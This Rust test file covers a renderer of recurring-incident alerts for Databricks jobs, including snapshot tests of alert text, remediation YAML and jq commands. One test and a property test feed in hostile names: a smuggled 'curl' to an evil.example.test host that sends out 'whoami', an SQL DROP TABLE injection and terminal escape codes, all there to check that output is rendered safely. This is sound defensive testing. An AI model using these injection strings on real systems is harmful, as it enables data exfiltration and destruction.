use proptest::prelude::*;

use super::*;
use crate::{
    domain::{
        incident::classification::Confidence,
        prevention::PreventionStep,
        recurrence::{
            CauseFinding, episodes as found_in,
            issue::Member,
            occurrences as occurrences_of,
            pattern::{Attributes, FoundResource},
        },
    },
    render::example::{DAILY_ETL, HOSTILE, NO_RUN_OUTPUT, assert_safe, hostile_text, recorded, report, time},
    tables::rows::RootCause,
};

const HOURLY_SYNC: &str = include_str!("../../../tests/examples/02-hourly-sync-no-retries.json");
const NIGHTLY_BACKUP: &str = include_str!("../../../tests/examples/03-nightly-backup-no-retries.json");

/// The finding of a report as incident n of a lake.
fn finding(n: u64, json: &str) -> Option<RootCause> {
    let mut cause = recorded(report(json)).projections.root_causes.pop()?;
    cause.seq = n;
    cause.incident_id = crate::domain::ids::IncidentId::from_ordinal(n);
    if !cause.occurrence_key.starts_with("run ") {
        cause.occurrence_key = cause.incident_id.to_string();
    }
    Some(cause)
}

fn member(cause: &RootCause) -> Member {
    Member {
        cause: cause.cause_fingerprint.clone().unwrap(),
        first_at: cause.found_at,
        incident_id: cause.incident_id,
        occurrence_key: cause.occurrence_key.clone(),
        found_at: cause.found_at,
        root_cause: cause.root_cause.clone(),
        cause_code: cause.cause_code.as_ref().map(|code| code.to_string()),
        cause_normalised: cause.cause_normalised.clone(),
        resource_kind: cause.resource_kind.as_ref().map(|kind| kind.to_string()),
        resource_id: cause.resource_id.as_ref().map(|id| id.to_string()),
        resource_name: cause.resource_name.clone(),
        attributes: cause
            .resource_attributes
            .as_deref()
            .map_or_else(Attributes::new, |json| serde_json::from_str(json).unwrap()),
        confidence: cause.confidence,
        workspace_id: cause.workspace_id.to_string(),
        seq: cause.seq,
    }
}

/// The issue that the definition computes from findings.
fn issue_of(
    causes: &[RootCause],
    rule: RecurrenceRule,
    others: &[&FoundResource],
    impact: Option<Impact>,
    steps: &[PreventionStep],
) -> Issue {
    let members: Vec<Member> = causes.iter().map(member).collect();
    let findings: Vec<CauseFinding> = causes
        .iter()
        .map(|cause| CauseFinding {
            incident_id: cause.incident_id,
            seq: cause.seq,
            found_at: cause.found_at,
            occurrence_key: cause.occurrence_key.clone(),
            cause_fingerprint: cause.cause_fingerprint.clone(),
        })
        .collect();
    let as_of = time("2026-02-21T00:00:00Z");
    let episode = found_in(&occurrences_of(&findings, &[], as_of), as_of, rule).remove(0);
    Issue::new(&episode, rule, &members, others, impact, steps)
}

fn three() -> Vec<RootCause> {
    (1..).zip([DAILY_ETL, HOURLY_SYNC, NIGHTLY_BACKUP]).filter_map(|(n, json)| finding(n, json)).collect()
}

fn other(id: u64, max_retries: &str) -> FoundResource {
    FoundResource {
        cause: "other".into(),
        workspace_id: "7405612783315468".into(),
        resource_kind: "job".into(),
        resource_id: id.to_string(),
        resource_name: None,
        attributes: Attributes::from([
            ("compute".to_owned(), "classic".to_owned()),
            ("max_retries".to_owned(), max_retries.to_owned()),
        ]),
        found_at: time("2026-02-12T00:00:00Z"),
        is_latest: true,
    }
}

#[test]
fn the_three_examples_raise_the_specified_alert() {
    let others: Vec<FoundResource> = (1..=5).map(|id| other(id, "3")).collect();
    let impact = Impact { resolved: 3, median_s: Some(900.0), others_resolved: 12, others_median_s: Some(2_400.0) };
    let text =
        alert(&issue_of(&three(), RecurrenceRule::DEFAULT, &others.iter().collect::<Vec<_>>(), Some(impact), &[]));
    insta::assert_snapshot!(text, @r#"
    RECURRING ISSUE ALERT
    =====================
    Root Cause: Job retry policies not configured (max_retries=0)
    Occurrences: 3 incidents in 7 days (daily-etl, hourly-sync, nightly-backup)
    Pattern: All 3 affected jobs have compute=serverless, max_retries=0; so have 0 of 5 others
    Confidence: HIGH (the lowest of the findings)

    Preventive Action Recommended:
    - Give every task a retry policy and a timeout in the job definition (bundle YAML: bundle-retry-policy)
        resources:
          jobs:
            my_job:
              tasks:
                - task_key: my_task
                  max_retries: 3
                  min_retry_interval_millis: 120000
                  retry_on_timeout: true
                  timeout_seconds: 3600
    - Fail the deployment of a job with a task that has max_retries < 1 and no timeout (bundle YAML: check-retries-before-deploy)
        databricks bundle validate -o json \
          | jq -e '[.resources.jobs[]?.tasks[]? | select((.max_retries // 0) == 0 and (.timeout_seconds // 0) == 0)] == []'
    - List the jobs with tasks that have no retry policy (sweep rule, daily: sweep-retry-policy)
        databricks jobs list --expand-tasks -o json \
          | jq -r '.[] | select(any(.settings.tasks[]?; (.max_retries // 0) == 0)) | [.job_id, .settings.name] | @tsv'

    Policy Template (job settings, fields of each task):
    {
      "max_retries": 3,
      "min_retry_interval_millis": 120000,
      "retry_on_timeout": true,
      "timeout_seconds": 3600
    }

    Cost Impact: median time to resolve (first resolved − reported) 15m (n=3); all other incidents 40m (n=12)
    "#);
}

#[test]
fn a_recurrence_after_the_fix_is_flagged() {
    let step = |seq, state, at| PreventionStep {
        cause: "a".into(),
        seq,
        ordinal: 1,
        action: "bundle-retry-policy".into(),
        state,
        occurred_at: time(at),
    };
    let steps = [
        step(4, PreventionState::Adopted, "2026-02-12T09:00:00Z"),
        step(9, PreventionState::Recurred, "2026-02-17T02:00:00Z"),
    ];
    let text = alert(&issue_of(&three(), RecurrenceRule::DEFAULT, &[], None, &steps));
    let lines_shown: Vec<&str> = text
        .lines()
        .filter(|line| ["RECURRED", "Pattern", "Cost", "- "].iter().any(|start| line.starts_with(start)))
        .collect();
    insta::assert_snapshot!(lines_shown.join("\n"), @"
    Pattern: All 3 affected jobs have compute=serverless, max_retries=0 (nothing to compare with)
    RECURRED AFTER THE FIX: bundle-retry-policy was adopted at 2026-02-12T09:00:00Z; 2 incidents since then, the first INC-1002 at 2026-02-13T03:02:40Z
    - Give every task a retry policy and a timeout in the job definition (bundle YAML: bundle-retry-policy, recurred)
    - Fail the deployment of a job with a task that has max_retries < 1 and no timeout (bundle YAML: check-retries-before-deploy)
    - List the jobs with tasks that have no retry policy (sweep rule, daily: sweep-retry-policy)
    ");
}

#[test]
fn an_alert_with_little_data_shows_na() {
    let cause = RootCause {
        resource_kind: None,
        resource_id: None,
        resource_name: None,
        resource_attributes: None,
        root_cause: "payload is null".into(),
        cause_normalised: Some("payload is null".into()),
        ..finding(1, NIGHTLY_BACKUP).unwrap()
    };
    let rule = RecurrenceRule { threshold: 1, window_hours: 5 };
    insta::assert_snapshot!(alert(&issue_of(&[cause], rule, &[], None, &[])), @r#"
    RECURRING ISSUE ALERT
    =====================
    Root Cause: payload is null
    Occurrences: 1 incident in 5 hours (INC-1001)
    Pattern: n/a
    Confidence: HIGH (the lowest of the findings)

    Preventive Action Recommended:
    - Warn when a run takes longer than it should (health rule: health-duration)
        resources:
          jobs:
            my_job:
              health:
                rules:
                  - metric: RUN_DURATION_SECONDS
                    op: GREATER_THAN
                    value: 3600
              email_notifications:
                on_duration_warning_threshold_exceeded:
                  - team@example.test
    - Notify the team of the job of every failed run (health rule: notify-on-failure)
        resources:
          jobs:
            my_job:
              email_notifications:
                on_failure:
                  - team@example.test
              notification_settings:
                no_alert_for_canceled_runs: true
    - List the runs that ended without success in the last day (sweep rule, daily: sweep-failures)
        databricks jobs list-runs --completed-only -o json --start-time-from "$(( ($(date +%s) - 86400) * 1000 ))" \
          | jq -r '.[] | (.status.termination_details.code // .state.result_state) as $code | select($code != "SUCCESS") | [.job_id, .run_id, .run_name, $code] | @tsv'

    Policy Template (health rule, fields of the job):
    {
      "health": {
        "rules": [
          {
            "metric": "RUN_DURATION_SECONDS",
            "op": "GREATER_THAN",
            "value": 3600
          }
        ]
      },
      "email_notifications": {
        "on_failure": [
          "team@example.test"
        ],
        "on_duration_warning_threshold_exceeded": [
          "team@example.test"
        ]
      }
    }
    "#);
}

#[test]
fn a_thousand_members_are_counted_and_twenty_are_named() {
    let one = finding(1, NIGHTLY_BACKUP).unwrap();
    let causes: Vec<RootCause> = (1..=1_000)
        .map(|n| RootCause {
            seq: n,
            incident_id: crate::domain::ids::IncidentId::from_ordinal(n),
            occurrence_key: n.to_string(),
            found_at: one.found_at.plus(chrono::TimeDelta::hours(-(n as i64))),
            resource_id: crate::domain::ids::Id::new(format!("{}", n % 2)).ok(),
            resource_name: Some(format!("job-{}", n % 2)),
            ..one.clone()
        })
        .collect();
    let text = alert(&issue_of(&causes, RecurrenceRule::DEFAULT, &[], None, &[]));
    insta::assert_snapshot!(text.lines().take(6).collect::<Vec<_>>().join("\n"), @"
    RECURRING ISSUE ALERT
    =====================
    Root Cause: Job retry policies not configured (max_retries=0)
    Occurrences: 1000 incidents in 41d 15h, at least 3 of them within 7 days (job-0 ×10, job-1 ×10, and 980 before)
    Pattern: All 2 affected jobs have compute=serverless, max_retries=0 (nothing to compare with)
    Confidence: HIGH (the lowest of the findings)
    ");
    assert!(text.len() < 5_000, "{}", text.len());
}

#[test]
fn retries_of_one_run_count_once() {
    let mut causes = three();
    causes.push(RootCause {
        seq: 4,
        incident_id: crate::domain::ids::IncidentId::from_ordinal(4),
        ..causes[0].clone()
    });
    let text = alert(&issue_of(&causes, RecurrenceRule::DEFAULT, &[], None, &[]));
    assert!(text.contains("Occurrences: 3 incidents in 7 days (daily-etl, hourly-sync, nightly-backup); 4 recorded, those about one run counted once\n"), "{text}");
}

#[test]
fn hostile_names_are_shown_and_do_nothing() {
    let mut hostile = finding(1, HOSTILE).unwrap();
    hostile.resource_attributes = Some(r#"{"a\u001b[2J":"b\n\u202e"}"#.into());
    let causes: Vec<RootCause> = (0..3)
        .map(|n| RootCause {
            seq: n,
            occurrence_key: n.to_string(),
            incident_id: crate::domain::ids::IncidentId::from_ordinal(n + 1),
            ..hostile.clone()
        })
        .collect();
    let text = alert(&issue_of(&causes, RecurrenceRule { threshold: 1, window_hours: 168 }, &[], None, &[]));
    assert_safe(&text);
    insta::assert_snapshot!(text.lines().take(6).collect::<Vec<_>>().join("\n"), @r#"
    RECURRING ISSUE ALERT
    =====================
    Root Cause: Expired token in the job's secret scope
    Occurrences: 3 incidents in 7 days (x'; curl http://evil.example.test/$(whoami) #\n; DROP TABLE audit_log; -- ×3)
    Pattern: All are about one job, x'; curl http://evil.example.test/$(whoami) #\n; DROP TABLE audit_log; --, which has a\u{1b}[2J=b\n\u{202e} (nothing to compare with)
    Confidence: MEDIUM (the lowest of the findings)
    "#);
}

#[test]
fn an_unknown_cause_is_never_a_member() {
    assert_eq!(finding(1, NO_RUN_OUTPUT).unwrap().cause_fingerprint, None);
}

fn lines() -> Vec<EpisodeLine> {
    let line = |event, occurrences, root_cause: &str| EpisodeLine {
        episode_id: "rec-0123456789abcdef".into(),
        event,
        occurrences,
        first_at: time("2026-02-11T12:21:00Z"),
        last_at: time("2026-02-17T01:15:00Z"),
        confidence: Some(Confidence::High),
        root_cause: root_cause.into(),
    };
    vec![
        line(EpisodeEvent::Updated, 3, "Job retry policies not configured (max_retries=0)"),
        EpisodeLine { confidence: None, ..line(EpisodeEvent::Closed, 12, "Input files \u{1b}[2J late\n") },
    ]
}

fn count(cause: &str, root_cause: &str) -> CauseCount {
    CauseCount {
        cause: cause.into(),
        occurrences: 5,
        incidents: 6,
        fullest_window: 3,
        latest_window: 1,
        first_at: time("2026-02-11T12:21:00Z"),
        last_at: time("2026-02-17T01:15:00Z"),
        root_cause: root_cause.into(),
    }
}

#[test]
fn episodes_and_causes_are_listed_one_per_line() {
    insta::assert_snapshot!(episodes(&lines(), 140), @r#"
    EPISODE               STATUS  INCIDENTS  FIRST (UTC)       LAST (UTC)        CONFIDENCE  ROOT CAUSE
    rec-0123456789abcdef  open    3          2026-02-11 12:21  2026-02-17 01:15  HIGH        Job retry policies not configured (max_retries=0)
    rec-0123456789abcdef  closed  12         2026-02-11 12:21  2026-02-17 01:15  n/a         Input files \u{1b}[2J late\n
    "#);
    insta::assert_snapshot!(episodes(&[], 80), @"There are no recurring issues to list.");
    let counts = [count("c1:0123456789abcdef", "executor out of memory"), count("code:e-17", "日次処理\u{202e}")];
    insta::assert_snapshot!(causes(&counts, RecurrenceRule::DEFAULT, 100), @r#"
    CAUSE                INCIDENTS  PEAK    LATEST  LAST (UTC)        ROOT CAUSE
    c1:0123456789abcdef  5          3 of 3  1 of 3  2026-02-17 01:15  executor out of memory
    code:e-17            5          3 of 3  1 of 3  2026-02-17 01:15  日次処理\u{202e}
    PEAK: the most incidents within any 7 days. LATEST: incidents within the 7 days up to the last one.
    "#);
    insta::assert_snapshot!(causes(&[], RecurrenceRule::DEFAULT, 80), @"There are no known causes to list.");
}

proptest! {
    #[test]
    fn nothing_hostile_gets_out(text in hostile_text(), width in 0usize..200) {
        let mut hostile = finding(1, NIGHTLY_BACKUP).unwrap();
        hostile.root_cause = text.clone();
        hostile.resource_name = Some(text.clone());
        hostile.resource_attributes = Some(serde_json::json!({ text.clone(): text.clone() }).to_string());
        let step = PreventionStep { cause: "a".into(), seq: 1, ordinal: 1, action: text.clone(), state: PreventionState::Adopted, occurred_at: time("2026-01-01T00:00:00Z") };
        let issue = issue_of(&[hostile], RecurrenceRule { threshold: 1, window_hours: 1 }, &[], None, &[step]);
        let shown = alert(&issue);
        assert_safe(&shown);
        let plain = alert(&Issue { root_cause: "x".into(), members: vec![], pattern: None, ..issue.clone() });
        prop_assert_eq!(shown.lines().count(), plain.lines().count());

        let listed = episodes(&[EpisodeLine { root_cause: text.clone(), episode_id: text.clone(), ..lines().remove(0) }], width);
        assert_safe(&listed);
        prop_assert_eq!(listed.lines().count(), 2);
        let listed = causes(&[count(&text, &text)], RecurrenceRule::DEFAULT, width);
        assert_safe(&listed);
        prop_assert_eq!(listed.lines().count(), 3);
    }
}
